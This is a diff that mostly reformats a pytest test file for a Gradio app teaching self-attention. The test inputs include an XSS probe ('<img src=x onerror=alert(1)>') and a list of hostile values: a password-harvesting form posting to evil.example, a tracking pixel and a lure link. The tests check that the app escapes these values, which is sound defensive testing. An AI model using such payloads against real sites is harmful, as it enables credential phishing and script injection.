@@ -14,7 +14,6 @@ import os
 import re
 import subprocess
 import sys
-import time
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -22,12 +21,23 @@ import gradio as gr
 import numpy as np
 import pytest
 import torch
+from golden import (
+    CONTEXT_2,
+    HALF_UNIT,
+    INPUTS,
+    PIECES,
+    SCORES_2,
+    TOKENIZER_IDS,
+    TOKENIZER_TEXT,
+    WEIGHTS,
+    WEIGHTS_2,
+    WORDS,
+)
+from reference import CAT_SENTENCE, book_attention, book_dot_line, recipe_inputs, self_wins
 
 import app
-from web import errors
 import attention_core as ac
-from golden import CONTEXT_2, HALF_UNIT, INPUTS, PIECES, SCORES_2, TOKENIZER_IDS, TOKENIZER_TEXT, WEIGHTS, WEIGHTS_2, WORDS
-from reference import CAT_SENTENCE, book_attention, book_dot_line, recipe_inputs, self_wins
+from web import errors
 
 ui = app.ui
 REPO = Path(app.__file__).resolve().parent
@@ -50,8 +60,11 @@ def assert_cells(rows: list[list[str]], matrix: torch.Tensor) -> None:
 
 def walk_rows(markdown: str) -> list[tuple[float, float]]:
     """(score, weight) of each row of the walk-through's table."""
-    found = re.findall(r"^\| \d+ \| <code>.*?</code> \| .* = (\S+)(?: \(\d+ products\))? \| \S+ \| \S+ \| (\S+) \|$",
-                       markdown.split("<details>")[0], flags=re.MULTILINE)
+    found = re.findall(
+        r"^\| \d+ \| <code>.*?</code> \| .* = (\S+)(?: \(\d+ products\))? \| \S+ \| \S+ \| (\S+) \|$",
+        markdown.split("<details>")[0],
+        flags=re.MULTILINE,
+    )
     return [(float(score), float(weight)) for score, weight in found]
 
 
@@ -128,16 +141,21 @@ def test_random_run_follows_the_notebook_recipe(random_outputs):
     assert torch.equal(run.attention.inputs, x)
     assert random_outputs[ui.inputs_table].value["headers"] == ["#", "token", "d1", "d2", "d3"]
     assert [row[:2] for row in random_outputs[ui.context_table].value["data"]] == [
-        [str(i + 1), token] for i, token in enumerate(VISIBLE)]
+        [str(i + 1), token] for i, token in enumerate(VISIBLE)
+    ]
     assert_cells(cells(random_outputs[ui.inputs_table]), x)
     table = random_outputs[ui.weights_table].value
     assert table["headers"] == ["#", "token", "1", "2", "3", "4", "5", "6", "row sum"]
     assert_cells([row[:-1] for row in cells(random_outputs[ui.weights_table])], weights)
     assert [row[-1] for row in table["data"]] == ["1.0000"] * 6  # the chapter's attn_weights.sum(dim=-1)
     assert_cells(cells(random_outputs[ui.context_table]), context)
-    assert [score for score, _ in walk_rows(random_outputs[ui.walk_text])] == pytest.approx(scores[1].tolist(), abs=HALF_UNIT)
+    assert [score for score, _ in walk_rows(random_outputs[ui.walk_text])] == pytest.approx(
+        scores[1].tolist(), abs=HALF_UNIT
+    )
     recipe = random_outputs[ui.recipe]
-    assert "torch.manual_seed(123)" in recipe and "nn.Embedding(50257, 3)" in recipe and repr(app.BOOK_SENTENCE) in recipe
+    assert (
+        "torch.manual_seed(123)" in recipe and "nn.Embedding(50257, 3)" in recipe and repr(app.BOOK_SENTENCE) in recipe
+    )
 
 
 def unpacked(packed: str) -> torch.Tensor:
@@ -224,7 +242,9 @@ def test_extras_trace_the_books_cell_2_1(book_extras):
 
 def test_extras_compare_the_books_example_with_the_book(book_extras):
     parity = book_extras[ui.parity_md]
-    assert parity.startswith("Computed from this run's 6 × 3 inputs.\n\n**161 of 161 printed numbers match** (all match)")
+    assert parity.startswith(
+        "Computed from this run's 6 × 3 inputs.\n\n**161 of 161 printed numbers match** (all match)"
+    )
     assert "✗" not in parity
 
 
@@ -250,8 +270,9 @@ def test_extras_facts_and_self_match_are_this_runs():
     extras = app.run_extras(run, REPEATED_TEXT)
     assert extras[ui.facts_md].startswith("**Repeated tokens:** 2 tokens appear more than once")
     wins, ties = self_wins(recipe_inputs(run.ids, dim=4, seed=7) @ recipe_inputs(run.ids, dim=4, seed=7).T)
-    assert extras[ui.self_match].startswith(f"**Here, {wins} of 8 tokens** have their largest score with themselves, "
-                                            f"{ties} of them by a tie")
+    assert extras[ui.self_match].startswith(
+        f"**Here, {wins} of 8 tokens** have their largest score with themselves, {ties} of them by a tie"
+    )
 
 
 def test_extras_snippet_reproduces_the_run(monkeypatch):
@@ -272,8 +293,10 @@ def test_extras_temperature_text_is_this_runs(book_extras):
     assert name == "Attention weights of query 2 (␣journey)"
     # The book's row 2: its largest weight is the query's own, α_22.
     assert max(WEIGHTS_2) == WEIGHTS_2[1]
-    assert caption == ("Bars: the attention weights of query 2 (␣journey) over its 6 keys, which sum to 1. "
-                       f"The largest is {WEIGHTS_2[1]:.4f}, for key 2 (␣journey): the query itself (hatched).")
+    assert caption == (
+        "Bars: the attention weights of query 2 (␣journey) over its 6 keys, which sum to 1. "
+        f"The largest is {WEIGHTS_2[1]:.4f}, for key 2 (␣journey): the query itself (hatched)."
+    )
 
 
 def test_extras_hide_the_last_runs_downloads(book_extras):
@@ -350,7 +373,8 @@ def test_shuffle_shows_a_new_order_each_click(random_outputs):
         shuffles = result[ui.shuffles]
         orders.append(shuffles[1])
         assert result[ui.shuffle_md].startswith(
-            "**Shuffled order:** " + " ".join(f"<code>{VISIBLE[p]}</code>" for p in shuffles[1]))
+            "**Shuffled order:** " + " ".join(f"<code>{VISIBLE[p]}</code>" for p in shuffles[1])
+        )
         assert "with rows and columns reordered is" in result[ui.shuffle_md]
         shuffled = result[ui.shuffled]
         assert shuffled["tokens"] == [VISIBLE[p] for p in shuffles[1]] and shuffled["caption"].startswith("Shuffled")
@@ -364,13 +388,17 @@ def test_shuffle_shows_a_new_order_each_click(random_outputs):
 def test_shuffle_needs_two_tokens():
     run = run_of("hi")[ui.state]
     assert error_of(lambda: app.shuffle_tokens(run, 0)) == (
-        "There is only one token: type a sentence with at least two tokens to shuffle.")
+        "There is only one token: type a sentence with at least two tokens to shuffle."
+    )
 
 
 @pytest.mark.parametrize(
     "call",
-    [lambda: app.trace_pair(None, 1, 0), lambda: app.trace_select(None, SimpleNamespace(index=(0, 0))),
-     lambda: app.shuffle_tokens(None, 0)],
+    [
+        lambda: app.trace_pair(None, 1, 0),
+        lambda: app.trace_select(None, SimpleNamespace(index=(0, 0))),
+        lambda: app.shuffle_tokens(None, 0),
+    ],
     ids=["trace_pair", "trace_select", "shuffle_tokens"],
 )
 def test_handlers_without_a_run_ask_for_one(call):
@@ -391,7 +419,9 @@ def test_follow_tau_recomputes_the_runs_own_inputs(random_outputs, tau):
     assert new.tokens == run.tokens and torch.equal(new.attention.inputs, run.attention.inputs)
     expected = torch.softmax(run.attention.scores.double() / tau, dim=-1)
     assert torch.allclose(new.attention.weights.double(), expected, atol=1e-6)
-    assert followed[ui.heatmap]["tau"] == tau and torch.equal(unpacked(followed[ui.heatmap]["weights"]), new.attention.weights)
+    assert followed[ui.heatmap]["tau"] == tau and torch.equal(
+        unpacked(followed[ui.heatmap]["weights"]), new.attention.weights
+    )
     assert ui.walk_text not in followed and ui.context_table not in followed  # they follow in run_extras
     below = app.run_extras(new, app.BOOK_SENTENCE, 3, 4, 2)
     assert_cells(cells(below[ui.context_table]), new.attention.context)
@@ -409,13 +439,27 @@ def test_follow_tau_refuses_a_bad_tau_and_skips_without_a_run(random_outputs):
 
 def test_a_refused_run_clears_every_output_of_the_last_run_and_says_why_inertly(random_outputs):
     result = app.refused_run(app.BOOK_SENTENCE, "random", "<img src=x onerror=alert(1)>", 123, "", False)
-    assert result[ui.tokens_html] == ("<p class='run-refused'><strong>Not run.</strong> The embedding dimension must "
-                                      "be a whole number, not '&lt;img src=x onerror=alert(1)&gt;'.</p>")
+    assert result[ui.tokens_html] == (
+        "<p class='run-refused'><strong>Not run.</strong> The embedding dimension must "
+        "be a whole number, not '&lt;img src=x onerror=alert(1)&gt;'.</p>"
+    )
     assert result[ui.state] is None
     for component in (ui.heatmap, ui.shuffled, ui.inputs_table, ui.weights_table, ui.context_table):
         assert result[component] is None
-    for component in (ui.recipe, ui.walk_text, ui.bars, ui.trace_md, ui.parity_md, ui.facts_md, ui.self_match,
-                      ui.snippet, ui.tau_md, ui.timings, ui.hull, ui.shuffle_md):
+    for component in (
+        ui.recipe,
+        ui.walk_text,
+        ui.bars,
+        ui.trace_md,
+        ui.parity_md,
+        ui.facts_md,
+        ui.self_match,
+        ui.snippet,
+        ui.tau_md,
+        ui.timings,
+        ui.hull,
+        ui.shuffle_md,
+    ):
         assert result[component] == ""
     for component in (ui.query, ui.trace_query, ui.trace_key):
         assert result[component].choices == [] and result[component].value is None
@@ -436,8 +480,9 @@ def test_every_run_is_followed_on_failure_by_refused_run():
     dependencies = app.demo.config["dependencies"]
     name = {d["id"]: getattr(app.demo.fns[d["id"]].fn, "__name__", None) for d in dependencies}
     runs = [d["id"] for d in dependencies if name[d["id"]] == "run_attention"]
-    refusals = {d["trigger_after"] for d in dependencies
-                if name[d["id"]] == "refused_run" and d["trigger_only_on_failure"]}
+    refusals = {
+        d["trigger_after"] for d in dependencies if name[d["id"]] == "refused_run" and d["trigger_only_on_failure"]
+    }
     assert len(runs) == 5 and set(runs) == refusals
 
 
@@ -482,14 +527,23 @@ def warnings_shown(monkeypatch) -> list[str]:
 def test_a_full_link_restores_every_setting(warnings_shown):
     params = {"text": "Your journey", "dim": "5", "seed": "7", "tau": "2.5", "view": "scores", "table": "book"}
     assert app.link_settings(request(params)) == {
-        ui.text: "Your journey", ui.dim: 5, ui.seed: 7, ui.tau: 2.5, ui.source: "table", ui.table: app.BOOK_TABLE,
-        ui.raw_scores: True}
+        ui.text: "Your journey",
+        ui.dim: 5,
+        ui.seed: 7,
+        ui.tau: 2.5,
+        ui.source: "table",
+        ui.table: app.BOOK_TABLE,
+        ui.raw_scores: True,
+    }
     assert warnings_shown == []
 
 
 def test_a_link_without_the_book_table_is_a_random_run():
     assert app.link_settings(request({"text": "hi", "view": "weights"})) == {
-        ui.text: "hi", ui.source: "random", ui.raw_scores: False}
+        ui.text: "hi",
+        ui.source: "random",
+        ui.raw_scores: False,
+    }
     assert app.link_settings(request({})) == app.link_settings(None) == {}
 
 
@@ -498,8 +552,9 @@ OPENED = (app.BOOK_SENTENCE, "random", app.DEFAULT_DIM, app.DEFAULT_SEED, "", Fa
 
 
 def test_opening_a_link_restores_its_settings_and_shows_that_run_in_one_answer(warnings_shown):
-    opened = app.open_page(*OPENED, request({"text": "Your journey", "dim": "5", "seed": "7", "tau": "2.5",
-                                             "view": "scores"}))
+    opened = app.open_page(
+        *OPENED, request({"text": "Your journey", "dim": "5", "seed": "7", "tau": "2.5", "view": "scores"})
+    )
     assert {opened[c] for c in (ui.text, ui.dim, ui.seed, ui.tau, ui.raw_scores)} >= {"Your journey", 5, 7, 2.5, True}
     run = opened[ui.state]
     assert (run.tokens, run.dim, run.seed, run.temperature) == (["Your", " journey"], 5, 7, 2.5)
@@ -515,9 +570,14 @@ def test_opening_a_link_whose_run_is_refused_fills_its_settings_and_says_why(war
     assert shown in opened[ui.tokens_html]
 
 
-HOSTILE_VALUES = ["<form action=https://evil.example/login><input name=password></form>",
-                  '<img src="https://tracker.example/pixel.gif">', "<a href=https://evil.example>click</a>",
-                  "9" * 4000, "1e999", "-5"]
+HOSTILE_VALUES = [
+    "<form action=https://evil.example/login><input name=password></form>",
+    '<img src="https://tracker.example/pixel.gif">',
+    "<a href=https://evil.example>click</a>",
+    "9" * 4000,
+    "1e999",
+    "-5",
+]
 
 
 @pytest.mark.parametrize("name", ["dim", "seed", "tau"])
@@ -588,8 +648,10 @@ def test_the_lab_shows_table_chart_and_notes():
 def test_a_refused_lab_input_clears_table_and_chart():
     result = app.run_lab("1, <b>two</b>", "float32")
     assert result[ui.lab_table] is None and result[ui.lab_chart] == ""
-    assert result[ui.lab_notes] == "**Cannot compare:** Value 2 is '&lt;b&gt;two&lt;/b&gt;', which is not a number. " \
-                                   "Separate numbers with commas or spaces."
+    assert (
+        result[ui.lab_notes] == "**Cannot compare:** Value 2 is '&lt;b&gt;two&lt;/b&gt;', which is not a number. "
+        "Separate numbers with commas or spaces."
+    )
 
 
 # --- what the handlers return is what their events accept -------------------------------------------------
@@ -620,12 +682,27 @@ def _events_of(handler) -> list:
         (app.root_temperature, lambda run: ("table", 3, app.BOOK_TABLE)),
         (app.text_edited, lambda run: (app.BOOK_SENTENCE, "table", app.BOOK_TABLE)),
     ],
-    ids=["open-plain", "open-link", "open-refused", "extras-nothing", "extras", "query-nothing", "query", "trace-nothing",
-         "trace-select", "upload-nothing", "toggle", "lab-refused", "root-temperature", "text-edited"],
+    ids=[
+        "open-plain",
+        "open-link",
+        "open-refused",
+        "extras-nothing",
+        "extras",
+        "query-nothing",
+        "query",
+        "trace-nothing",
+        "trace-select",
+        "upload-nothing",
+        "toggle",
+        "lab-refused",
+        "root-temperature",
+        "text-edited",
+    ],
 )
 @pytest.mark.filterwarnings("ignore:The value passed into gr.Dropdown:UserWarning")  # choices live in the session
-def test_gradio_accepts_what_each_handler_returns(book_outputs, warnings_shown, monkeypatch, tmp_path, handler,
-                                                 arguments):
+def test_gradio_accepts_what_each_handler_returns(
+    book_outputs, warnings_shown, monkeypatch, tmp_path, handler, arguments
+):
     """Gradio reads a dict keyed by components as updates, but an empty dict as one value: "change nothing" must
     be gr.skip(). Every key must be an output of the event."""
     import asyncio
@@ -705,7 +782,13 @@ def caught_records(caplog) -> list[logging.LogRecord]:
 @pytest.mark.slow
 def test_import_app_serves_the_page_before_torch_and_matplotlib_load():
     code = "import json, sys\nimport app\nprint(json.dumps([n for n in ('torch', 'matplotlib') if n in sys.modules]))"
-    result = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, timeout=300,
-                            env={**os.environ, "GRADIO_ANALYTICS_ENABLED": "False", "PYTHONPATH": str(REPO)})
+    result = subprocess.run(
+        [sys.executable, "-c", code],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        env={**os.environ, "GRADIO_ANALYTICS_ENABLED": "False", "PYTHONPATH": str(REPO)},
+    )
     assert result.returncode == 0, result.stderr
     assert json.loads(result.stdout.strip().splitlines()[-1]) == []
